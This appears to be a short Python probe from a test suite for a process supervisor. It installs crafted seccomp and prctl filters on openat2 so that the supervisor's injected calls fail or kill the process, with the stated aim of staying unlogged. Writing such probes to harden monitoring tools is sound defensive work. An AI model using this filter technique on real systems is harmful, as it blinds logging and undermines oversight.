# SPDX-License-Identifier: Apache-2.0
# attack: filters that make the supervisor's injected calls fail or kill the process
# class: self
# wins: unlogged
# native: n/a: nothing is injected without a supervisor
# logged: seccomp prctl
from kit import *

tried()
for ret in (0x00050001, 0x80000000, 0x00030000, 0x7ff00000):
    f = ctypes.create_string_buffer(struct.pack('<HBBIHBBIHBBIHBBI', 0x20, 0, 0, 0, 0x15, 0, 1, NR['openat2'], 6, 0, 0, ret, 6, 0, 0, 0x7fff0000))
    prog = ctypes.create_string_buffer(struct.pack('<HxxxxxxQ', 4, address(f)))
    for flags in (0, 1, 2, 4, 8, 16, 32):
        sc('seccomp', 1, flags, prog)
    sc('prctl', 22, 2, prog)
    sc('seccomp', 0, 0, None)
    take(GOOD)
